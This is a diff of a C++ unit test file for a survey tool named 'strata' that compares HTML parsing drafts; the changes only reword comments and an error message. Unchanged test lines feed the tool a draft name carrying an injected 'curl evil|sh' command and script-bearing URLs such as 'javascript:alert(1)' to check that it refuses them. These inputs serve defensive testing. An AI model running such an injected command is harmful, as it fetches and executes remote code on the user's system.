@@ -1,4 +1,4 @@
-// Surveys from end to end: what was planted is counted, in whatever way the work is divided, stopped or repeated.
+// Surveys from end to end: planted differences are counted, however the work is divided, stopped or repeated.
 
 #include <boost/test/unit_test.hpp>
 
@@ -221,7 +221,7 @@ BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_exc
     const outcome of_file = strata({"survey", "merge", "--format=html", folder.write("b.json", named)}, "<p>");
     BOOST_TEST(of_file.status == 0, of_file.err);
     BOOST_TEST(!contains(of_file.out, "What the drafts make of it"));
-    // The place goes on beyond what is kept of it.
+    // The place continues beyond the part that is kept.
     const std::string far = folder.write("far.html", "<a b" + std::string(400, 'x') + "/>");
     const std::string without = strata({"survey", "--drafts=2008,modern", "--format=html", far}).out;
     BOOST_TEST(without.find("self-closing-flag") != std::string::npos);
@@ -239,7 +239,7 @@ BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) 
     for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
         edited.replace(at, 4, "2008;curl evil|sh;#");
     check_refused_with(strata({"survey", "merge", "--format=html", folder.write("e.json", edited)}),
-                       "the command does not ask for what the terms say");
+                       "the command and the terms do not agree");
     for (const std::string address :
          {"javascript:alert(1)", "JavaScript:x", "data:text/html,x", " https://a/", "vbscript:x"})
         check_refused_with(strata({"survey", "--format=html", "--playground=" + address, page}),
